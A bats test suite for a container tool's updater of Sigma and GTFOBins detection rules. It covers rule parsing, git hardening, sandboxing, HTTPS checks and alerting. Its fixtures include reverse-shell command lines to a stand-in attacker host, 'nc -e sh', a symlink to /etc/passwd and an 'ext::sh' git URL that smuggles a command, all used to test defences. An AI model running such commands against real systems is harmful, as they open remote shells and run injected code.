#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# Rules of others: fetched from a repository, put in place whole, used by the watching.

setup_file() {
	load ../lib/common
	coi_setup
}

teardown_file() {
	load ../lib/common
	coi_teardown
}

setup() {
	load ../lib/common
	cd "$T/ws"
	rm -rf "$HOME/.coi/sigma" "$HOME/.coi/gtfobins" "$HOME/.coi/"*.before-coi "$T/repo"
	repository "$T/repo"
	settings "file://$T/repo" "file://$T/repo"
}

settings() { # SIGMA GTFOBINS
	cat >"$HOME/.coi/config.toml" <<-END
		[container]
		init = "coi-init"
		[monitoring]
		enabled = true
		auto_pause_on_high = false
		[detection]
		sigma_source = "$1"
		gtfobins_source = "$2"
	END
}

rule() { # FILE LEVEL WORD
	cat >"$T/repo/rules/linux/process_creation/$1.yml" <<-END
		title: Rule $1
		description: It is about $3.
		status: test
		logsource:
		  category: process_creation
		  product: linux
		detection:
		  selection:
		    CommandLine|contains: '$3'
		  condition: selection
		level: $2
	END
}

in_repo() { # GIT-ARGUMENTS
	git -C "$T/repo" -c user.name=x -c user.email=x@example.invalid "$@"
}

commit() {
	in_repo add -A
	in_repo commit -q -m more
}

repository() { # DIRECTORY
	mkdir -p "$1/rules/linux/process_creation" "$1/rules/windows" "$1/_gtfobins"
	git init -q -b main "$1"
	rule one critical 'unpack-secrets --now'
	rule two high 'tidy-up --all'
	rule low medium 'anything'
	printf '%s\n' '---' 'functions:' '  reverse-shell:' '  - code: wormhole --to attacker.com:12345 --run /bin/sh' \
		'  upload:' '  - code: wormhole --send /path/to/input-file' '...' >"$1/_gtfobins/wormhole"
	echo 'not: a rule' >"$1/rules/windows/other.yml"
	commit
}

rules_of() { # SOURCE
	coi monitor patterns list --json 2>/dev/null | jq -r --arg s "$1" '.[] | select(.source == $s).rule'
}

no_leftovers() {
	[ -z "$(find "$HOME/.coi" -maxdepth 1 \( -name '*.new' -o -name '*.gone' \))" ]
}

@test "fetched, said what is new, skipped by file, line and reason, and put in place" {
	printf '%s\n' 'title: x' 'logsource: {category: process_creation, product: linux}' 'level: high' \
		'detection:' '  s: [a]' '  condition: s | count() > 5' >"$T/repo/rules/linux/process_creation/count.yml"
	printf 'a: &x [*x\n' >"$T/repo/rules/linux/process_creation/bomb.yml"
	printf 'title: \033[31mred\n- x: [' >"$T/repo/rules/linux/process_creation/red.yml"
	ln -s /etc/passwd "$T/repo/rules/linux/process_creation/link.yml"
	commit
	coi update patterns >"$T/out" 2>"$T/err"
	grep -q '^gtfobins: 1 rules of commit [0-9a-f]\{12\} (1 new, 0 changed, 0 gone), 0 skipped, 1 of no weight$' "$T/out"
	grep -q '^sigma: 2 rules of commit [0-9a-f]\{12\} (2 new, 0 changed, 0 gone), 4 skipped, 1 of no weight$' "$T/out"
	grep -q "skipped: rules/linux/process_creation/count.yml, line 6: .*'count'" "$T/out"
	grep -q 'skipped: rules/linux/process_creation/bomb.yml, line 1: anchors are not taken' "$T/out"
	grep -q 'skipped: rules/linux/process_creation/red.yml, line ' "$T/out"
	grep -q 'skipped: rules/linux/process_creation/link.yml' "$T/out"
	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/out"
	grep -q 'Containers that start from now on' "$T/err"
	[ "$(rules_of sigma | sort | xargs)" = "sigma.one sigma.two" ]
	[ "$(rules_of gtfobins)" = "gtfobins.wormhole.reverse-shell.1" ]
	# Only what is wanted of the repository is there, and it is the person's alone.
	[ -f "$HOME/.coi/sigma/rules/linux/process_creation/one.yml" ]
	[ ! -e "$HOME/.coi/sigma/rules/windows" ]
	[ "$(stat -c %a "$HOME/.coi/sigma")" = 700 ]
	no_leftovers

	coi update patterns >"$T/out" 2>&1
	grep -q '^sigma: nothing new: 2 rules of commit ' "$T/out"
	rule two high 'tidy-up --everything'
	rule three high 'new'
	rm "$T/repo/rules/linux/process_creation/one.yml"
	commit
	coi update patterns --dry-run >"$T/out" 2>&1
	grep -q '^sigma: 2 rules would be taken of commit .* (1 new, 1 changed, 1 gone)' "$T/out"
	[ "$(rules_of sigma | sort | xargs)" = "sigma.one sigma.two" ]
	coi update patterns --json >"$T/json" 2>/dev/null
	jq -e '.[] | select(.source == "sigma") | .rules == 2 and .added == 1 and .changed == 1 and .removed == 1
		and (.is_same | not) and .before != .commit and (.skipped | length) == 4' "$T/json"
	[ "$(rules_of sigma | sort | xargs)" = "sigma.three sigma.two" ]
	no_leftovers
}

@test "which of them fires, and why" {
	coi update patterns >/dev/null 2>&1
	coi monitor patterns test "un'pack'-secrets \$X--now" >"$T/out"
	grep -q '^high: Rule one (sigma.one)$' "$T/out"
	grep -q '^  why: It is about unpack-secrets --now.$' "$T/out"
	grep -q "^  by:  rules/linux/process_creation/one.yml of sigma, there 'critical'$" "$T/out"
	grep -q "^  in:  command contains 'unpack-secrets --now'$" "$T/out"
	grep -q '^  then: alerted$' "$T/out"
	coi monitor patterns test --json 'env wormhole --to 203.0.113.1:9 --run /bin/sh' |
		jq -e '.[0] | .source == "gtfobins" and .level == "high" and .rule == "gtfobins.wormhole.reverse-shell.1"'
	coi monitor patterns test 'wormhole --send x' | grep -q '^No rule fires.$'
	# A redirection is shown as it was meant.
	coi monitor patterns test 'x 0>&1 2>&1 3<y >z' | grep -q '^  x 0>&1 2>&1 3<y >z$'
	# A set that somebody has changed is not used, and the built-in rules are.
	echo '{"format":1,"rules":[{"id":"x"}]}' >"$HOME/.coi/sigma/.git/coi-patterns.json"
	coi monitor patterns test 'nc -e sh 203.0.113.1 9; unpack-secrets --now' >"$T/out" 2>"$T/err"
	grep -q "rules of 'sigma' are not used" "$T/err"
	grep -q '^critical: ' "$T/out"
	not grep -q sigma.one "$T/out"
	rm "$HOME/.coi/sigma/.git/coi-patterns.json"
	mkfifo "$HOME/.coi/sigma/.git/coi-patterns.json"
	coi monitor patterns list >/dev/null 2>"$T/err"
	grep -q "sigma' are not used" "$T/err"
}

@test "a container is watched by them, and ordinary work stays silent" {
	coi update patterns >/dev/null 2>&1
	coi container launch coi-default p1 2>/dev/null
	coi container exec p1 -- sh -c 'ls / >/dev/null; echo x | grep -c x; true tidy --all' >/dev/null
	coi container exec p1 -- sh -c ': unpack-secrets  --now; true "unpack-secrets --now"'
	coi container exec p1 -- sh -c ': tidy-up --all'
	records() { jq -s '[.[] | select(.evidence) | {title, level, action, rule: .evidence.process.pattern}] | unique' "$HOME/.coi/audit/p1.jsonl"; }
	both() { records | jq -e 'map(.rule) | (index("sigma.one") != null) and (index("sigma.two") != null)' >/dev/null; }
	within 20 both
	records | jq -e 'all(.[]; .level == "info" or (.rule | startswith("sigma.")))'
	records | jq -e '.[] | select(.rule == "sigma.one") | .level == "high" and .action == "alerted" and .title == "Rule one"'
	records | jq -e '.[] | select(.rule == "sigma.two") | .level == "warning" and .action == "alerted"'
	jq -se 'any(.[]; .type == "audit" and .source == "patterns" and .msg == "source.start" and .count == 3)' "$HOME/.coi/audit/p1.jsonl"
	coi container delete --force p1 2>/dev/null
	# One that is broken is told in the record, and the others are used.
	echo '{"format":1,"rules":[{"id":"x"}]}' >"$HOME/.coi/sigma/.git/coi-patterns.json"
	coi container launch coi-default p2 2>/dev/null
	coi container exec p2 -- sh -c ': wormhole --to 203.0.113.1:1 --run /bin/sh'
	coi container exec p2 -- sh -c 'wormhole() { :; }; wormhole --to 203.0.113.1:1 --run /bin/sh'
	one() { jq -se 'any(.[]; .evidence.process.pattern == "gtfobins.wormhole.reverse-shell.1")' "$HOME/.coi/audit/p2.jsonl" >/dev/null; }
	within 20 one
	jq -se 'any(.[]; .type == "audit" and .source == "patterns" and .msg == "source.unavailable")' "$HOME/.coi/audit/p2.jsonl"
	coi container delete --force p2 2>/dev/null
}

@test "what is not ours is left alone, and a clone that we have not made is kept" {
	mkdir "$HOME/.coi/sigma"
	echo mine >"$HOME/.coi/sigma/file"
	run -1 --separate-stderr coi update patterns
	[[ $stderr == *"'$HOME/.coi/sigma' is there and is no clone"* ]]
	[[ $stderr == *detection.sigma_dir* ]]
	[[ $output == "gtfobins: 1 rules"* ]]
	[ "$(cat "$HOME/.coi/sigma/file")" = mine ]
	rm -r "$HOME/.coi/sigma"
	ln -s "$T" "$HOME/.coi/sigma"
	run -1 coi update patterns
	[ -L "$HOME/.coi/sigma" ]
	rm "$HOME/.coi/sigma"
	# As coi 0.9 made it.
	git clone -q "file://$T/repo" "$HOME/.coi/sigma"
	echo mine >"$HOME/.coi/sigma/file"
	coi update patterns >"$T/out" 2>&1
	grep -q "is kept as '$HOME/.coi/sigma.before-coi'" "$T/out"
	[ "$(cat "$HOME/.coi/sigma.before-coi/file")" = mine ]
	[ "$(rules_of sigma | wc -l)" = 2 ]
	# An empty directory is as good as none.
	rm -r "$HOME/.coi/sigma"
	mkdir "$HOME/.coi/sigma"
	coi update patterns >/dev/null 2>&1
	[ "$(rules_of sigma | wc -l)" = 2 ]
	# Where the settings say; what there was before stays.
	printf '%s\n' 'gtfobins_dir = "~/.coi/elsewhere"' 'sigma_dir = "~/.coi/else"' >>"$HOME/.coi/config.toml"
	coi update patterns >/dev/null 2>&1
	[ -d "$HOME/.coi/elsewhere/.git" ]
	[ -d "$HOME/.coi/gtfobins/.git" ]
	[ -f "$HOME/.coi/else/rules/linux/process_creation/one.yml" ]
	rm -r "$HOME/.coi/elsewhere" "$HOME/.coi/else"
	sed -i '/^sigma_dir/d' "$HOME/.coi/config.toml"
	# A repository of something else changes nothing.
	in_repo rm -q -r rules
	commit
	run -1 coi update patterns
	[[ $output == *"no directory 'rules/linux/process_creation' in the repository"* ]]
	[ "$(rules_of sigma | wc -l)" = 2 ]
	no_leftovers
}

@test "git reads no settings and no environment of anybody, and runs no hooks" {
	mkdir "$T/hooks"
	printf '#!/bin/sh\ntouch %s/hooked\n' "$T" >"$T/hooks/post-checkout"
	chmod +x "$T/hooks/post-checkout"
	cp "$T/hooks/post-checkout" "$T/hooks/reference-transaction"
	printf '[core]\n\thooksPath = %s/hooks\n\tfsmonitor = %s/hooks/post-checkout\n[url "file:///nowhere"]\n\tinsteadOf = file://\n' \
		"$T" "$T" >"$HOME/.gitconfig"
	mkdir "$T/template" && mkdir "$T/template/hooks" && cp "$T/hooks/"* "$T/template/hooks/"
	GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0="$T/hooks" GIT_DIR=$T/x \
		GIT_WORK_TREE=$T/y GIT_TEMPLATE_DIR=$T/template GIT_EXEC_PATH=/nowhere GIT_SSH_COMMAND="touch $T/hooked" \
		GIT_TRACE=$T/hooked coi update patterns >"$T/out" 2>&1
	rm "$HOME/.gitconfig"
	[ ! -e "$T/hooked" ]
	[ "$(rules_of sigma | wc -l)" = 2 ]
	[ ! -e "$HOME/.coi/sigma/.git/hooks" ]
	# The same does have an effect on git alone.
	git -c core.hooksPath="$T/hooks" clone -q "file://$T/repo" "$T/plain"
	[ -e "$T/hooked" ]
}

@test "what git runs can write in its directory only, and reads no home" {
	[ "$(python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(444, None, 0, 1))')" -ge 1 ] ||
		skip "this kernel has no Landlock"
	mkdir "$T/only"
	echo secret >"$HOME/.coi/secret"
	chmod 644 "$HOME/.coi/secret"
	git_does() { env -i PATH="$PATH" HOME="$T/only" GIT_CONFIG_GLOBAL=/dev/null "$COI_TEST_BUILD/coi-git" "$T/only" - -c "alias.x=!$1" x; }
	git_does "touch $T/only/in"
	[ -e "$T/only/in" ]
	run ! git_does "touch $T/out-of-it"
	[ ! -e "$T/out-of-it" ]
	run ! git_does "cat $HOME/.coi/secret"
	[[ $output != secret ]]
	git_does 'cat /proc/self/status' | grep -qx 'CapEff:	0000000000000000'
	git_does 'cat /proc/self/status' | grep -qx 'NoNewPrivs:	1'
}

@test "only https and files, one host, and no other words for git" {
	for url in http://example.invalid/x.git git://example.invalid/x ssh://git@example.invalid/x \
		'ext::sh -c touch% '"$T"'/ext' git@example.invalid:x -uxxx /etc "https://u:p@example.invalid/x" \
		'file://example.invalid/x' 'https:///x'; do
		settings "$url" ""
		run -1 coi update patterns
		[[ $output == *sigma:* ]] || { echo "$url: $output"; return 1; }
		[ ! -e "$T/ext" ]
	done
	settings "" ""
	run -1 coi update patterns
	[[ $output == *"there is no source"* ]]
	# A project has no say in it.
	mkdir -p "$T/ws/.coi"
	printf '[detection]\nsigma_source = "file://%s/repo"\n' "$T" >"$T/ws/.coi/config.toml"
	run coi update patterns
	[[ $output != *"2 rules"* ]]
	rm -r "$T/ws/.coi"
	# A repository that is not there: the other one is fetched all the same.
	settings "file://$T/nowhere" "file://$T/repo"
	run -1 --separate-stderr coi update patterns
	[[ $output == "gtfobins: 1 rules"* ]]
	[[ $stderr == *"sigma: git ls-remote failed"* ]]
	no_leftovers
}

@test "by https: an authority that is known, the host that was named, and of the repository what is wanted" {
	openssl req -x509 -newkey rsa:2048 -nodes -keyout "$T/key.pem" -out "$T/cert.pem" -days 2 \
		-subj /CN=rules.test -addext subjectAltName=IP:127.0.0.1,DNS:localhost 2>/dev/null
	unset https_proxy HTTPS_PROXY http_proxy all_proxy ALL_PROXY
	python3 "$COI_TEST_SRC/tests/lib/git-server.py" "$T" "$T/cert.pem" "$T/key.pem" "$T/port" >"$T/server" 2>&1 3>&- 4>&- &
	local server=$! port
	within 20 test -e "$T/port" || { cat "$T/server"; return 1; }
	port=$(cat "$T/port")
	settings "https://127.0.0.1:$port/moved/repo" ""
	SSL_CERT_FILE=$T/cert.pem run -1 coi update patterns
	[[ $output == *"error: 302"* ]]
	settings "https://127.0.0.1:$port/repo" ""
	run -1 coi update patterns
	[[ $output == *"certificate verification failed"* || $output == *"SSL certificate"* ]]
	[ ! -e "$HOME/.coi/sigma" ]
	SSL_CERT_FILE=$T/cert.pem coi update patterns >"$T/out" 2>&1 || { cat "$T/out"; return 1; }
	[ "$(rules_of sigma | sort | xargs)" = "sigma.one sigma.two" ]
	# What is not wanted has not even been fetched.
	not git -C "$HOME/.coi/sigma" -c protocol.allow=never cat-file -e HEAD:rules/windows/other.yml
	kill "$server"
	wait "$server" || true
}

@test "killed at any step, the old rules are there, and the next one finishes" {
	coi update patterns >/dev/null 2>&1
	local before=two n=0 step
	for step in mkdirat:1 memfd_create:1 pipe2:1 pipe2:3 pipe2:5 renameat:1 renameat2:1 fsync:1 unlinkat:1 unlinkat:5; do
		n=$((n + 1))
		settings "file://$T/repo" ""
		rule "$before" high "word-$n"
		commit
		rm -f "$T/trace"
		# Its own calls alone: git has calls of these names too.
		run strace -o "$T/trace" -e "inject=${step%:*}:signal=SIGKILL:when=${step#*:}" \
			"$COI" update patterns
		grep -q 'killed by SIGKILL' "$T/trace" || { echo "$step does not come"; tail -3 "$T/trace"; return 1; }
		# A set, whole: the old one or, behind the exchange, the new one.
		[ "$(rules_of sigma | sort | xargs)" = "sigma.one sigma.two" ]
		coi monitor patterns test "word-$((n - 1)) tidy-up --all" | grep -q sigma.two ||
			coi monitor patterns test "word-$n" | grep -q sigma.two
		coi update patterns >"$T/out" 2>&1 || { cat "$T/out"; return 1; }
		coi monitor patterns test "word-$n" | grep -q sigma.two
		no_leftovers
	done
}

@test "of two at once one waits, and both are right" {
	"$COI" update patterns >"$T/one" 2>&1 3>&- &
	local one=$!
	coi update patterns >"$T/two" 2>&1
	wait "$one"
	[ "$(cat "$T/one" "$T/two" | grep -c '^sigma: .*2 rules')" = 2 ]
	[ "$(rules_of sigma | wc -l)" = 2 ]
	no_leftovers
}

@test "a set that nobody could use does not take the place of one that is used" {
	rule one high something
	commit
	coi update patterns
	local i before
	before=$(coi monitor patterns list | grep -c sigma)
	for i in $(seq 2049); do
		cp "$T/repo/rules/linux/process_creation/one.yml" "$T/repo/rules/linux/process_creation/more-$i.yml"
	done
	commit
	run --separate-stderr coi update patterns
	expect_status 1
	expect_stderr "it has 2051 rules, and 2048 are the most"
	expect_equal "$(coi monitor patterns list | grep -c sigma)" "$before"
	[ -z "$(find "$HOME/.coi" -name '.*.new' -o -name '.*.gone')" ]
}

@test "update is the program, then the rules" {
	rule one high something
	commit
	run --separate-stderr coi update
	expect_status 0
	expect_text "is a development build"
	[ -e "$HOME/.coi/sigma" ]
	# Of a build tree that is so with --force too; without it nothing is tried.
	run --separate-stderr coi update --force
	expect_status 1
	expect_stderr "build tree"
	# The rules do not come, which is said; what became of the program was said before.
	settings "file://$T/nothing" "file://$T/nothing"
	run --separate-stderr coi update
	expect_status 1
	expect_text "is a development build"
	expect_stderr "sigma"
}
